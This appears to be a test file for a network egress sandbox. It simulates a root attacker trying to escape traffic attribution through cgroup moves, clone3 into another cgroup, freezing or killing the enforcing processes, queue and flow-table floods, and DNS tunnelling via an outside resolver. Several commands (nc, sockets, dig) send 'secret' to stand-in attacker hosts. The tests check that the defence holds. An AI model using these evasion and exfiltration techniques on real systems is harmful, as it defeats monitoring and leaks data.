/** Root in the scope against the processes, cgroups and tables that decide who made a packet. */

import assert from "node:assert/strict";
import { inPython, inShell, OWN_RUN, SEND, SENDING } from "../support/attack.ts";
import { none, some } from "../support/log.ts";
import { suite } from "../support/suite.ts";

const test = suite();
const control = SENDING;

test("attack: moving into the roles' cgroup", async (scene) => {
  const run = await inShell(
    scene,
    `${OWN_RUN} echo $$ >$cg/roles/cgroup.procs && echo moved; ${SEND}`,
    { control },
  );
  assert.match(run.stdout, /^moved/);
  assert.ok(run.log.some((event) => /left the scope's cgroup/.test(event.message ?? "")));
});

test("attack: a child that is born in another cgroup", async (scene) => {
  const program = `
import ctypes, glob, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
root = [p for p in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified") if os.path.exists(p + "/cgroup.procs")][0]
folder = os.open(root, os.O_RDONLY)
# clone3 with CLONE_INTO_CGROUP; flags, pidfd, child_tid, parent_tid, exit_signal, stack, its size, tls, set_tid, its size, cgroup
arguments = struct.pack("11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, folder)
child = libc.syscall(435, ctypes.c_char_p(arguments), len(arguments))
if child == 0:
    print("born in", open("/proc/self/cgroup").read().split("0::")[1].strip(), flush=True)
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(2); s.connect(("203.0.113.66", 9000)); s.send(b"secret")
        except OSError as error: print(error, flush=True)
    os._exit(0)
os.waitpid(child, 0)
`;
  const run = await inPython(scene, program);
  assert.match(run.stdout, /^born in \/\n/, run.stderr);
  assert.ok(run.log.some((event) => /left the scope's cgroup/.test(event.message ?? "")));
});

test("attack: stopping every role of egress", async (scene) => {
  const run = await inShell(
    scene,
    `${OWN_RUN} kill -STOP $(cat $cg/roles/cgroup.procs) && echo stopped; ${SEND}
    kill -CONT $(cat $cg/roles/cgroup.procs)`,
    { control },
  );
  assert.match(run.stdout, /^stopped/);
});

test("attack: freezing the roles' cgroup", async (scene) => {
  const run = await inShell(
    scene,
    `${OWN_RUN} echo 1 >$cg/roles/cgroup.freeze && echo frozen; ${SEND}
    echo 0 >$cg/roles/cgroup.freeze`,
    { control },
  );
  assert.match(run.stdout, /^frozen/);
});

test("attack: killing the roles again and again", async (scene) => {
  const run = await inShell(
    scene,
    `${OWN_RUN} for i in 1 2 3 4 5 6 7 8; do
      kill -9 $(cat $cg/roles/cgroup.procs); echo secret | nc -u -w 1 203.0.113.66 9000
      echo secret | nc -N -w 1 203.0.113.66 9000
    done; echo done`,
    { control },
  );
  assert.match(run.stdout, /done\n$/);
});

test("attack: filling the queue with packets that wait for a verdict", async (scene) => {
  const program = `
import socket
sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(200)]
for s in sockets: s.setblocking(False)
sent = 0
for i in range(20000):
    try: sent += sockets[i % 200].sendto(b"secret", ("203.0.113.66", 9000 + i // 200 % 7)) > 0
    except OSError: pass
print("tried", sent >= 0)
`;
  const run = await inPython(scene, program);
  assert.match(run.stdout, /^tried/);
});

test("attack: 100,000 flows that push the makers of others out of the table", async (scene) => {
  const program = `
import socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dig = subprocess.Popen("for i in 1 2 3 4 5; do dig +tries=1 +timeout=3 secret.evil.test; dig +tries=1 +timeout=3 site.test; done",
    shell=True, stdout=subprocess.DEVNULL)
flows = 0
while flows < 100000 or dig.poll() is None:
    try: s.sendto(b"x", (f"127.{flows >> 16 & 127}.{flows >> 8 & 255}.{flows & 255 | 1}", 10000 + flows % 50000))
    except OSError: pass
    flows += 1
print(flows, "flows")
`;
  const run = await inPython(scene, program, { policy: "site.test exe=/usr/bin/dig" });
  assert.match(run.stdout, /^\d{6,} flows/);
  none(run.log, { type: "dns", policy: "allow", name: "secret.evil.test" });
  for (const event of run.log) {
    // Right, or nobody: never the process that floods.
    if (event.type === "dns") assert.ok(!/python/.test(event.exe ?? ""), JSON.stringify(event));
  }
});

test("attack: asking a resolver that runs outside the scope", async (scene) => {
  // As a local stub does: it listens on loopback and asks in its own name.
  const stub = new Deno.Command("nsenter", {
    args: [
      `--net=/run/netns/${scene.internet.client}`,
      ...["/usr/bin/python3", "-c", STUB],
    ],
    stdin: "piped",
    stdout: "piped",
  }).spawn();
  const reader = stub.stdout.getReader();
  await reader.read();
  try {
    const ask = "dig +tries=1 +timeout=2 @127.0.0.53 secret.evil.test";
    const run = await scene.run({
      policy: "site.test",
      command: ["bash", "-c", `echo nameserver 127.0.0.53 >${scene.folder}/resolv.conf; ${ask}`],
      before: `echo nameserver 127.0.0.53 >/etc/netns-resolv-${scene.internet.client}; ` +
        `mount --bind /etc/netns-resolv-${scene.internet.client} /etc/resolv.conf; ` +
        `rm /etc/netns-resolv-${scene.internet.client}`,
    });
    await scene.attackerGotNothing();
    some(run.log, { type: "dns", policy: "deny", name: "secret.evil.test" });
  } finally {
    await stub.stdin.close();
    await reader.cancel();
    await stub.status;
  }
});

/** A stub: what it is asked on 127.0.0.53 it asks the name server, until its stdin ends. */
const STUB = `
import select, socket, sys
near = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); near.bind(("127.0.0.53", 53))
far = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); far.connect(("198.51.100.53", 53))
print("ready", flush=True)
while True:
    ready = select.select([near, sys.stdin], [], [])[0]
    if sys.stdin in ready: break
    question, client = near.recvfrom(4096)
    far.send(question); near.sendto(far.recv(4096), client)
`;
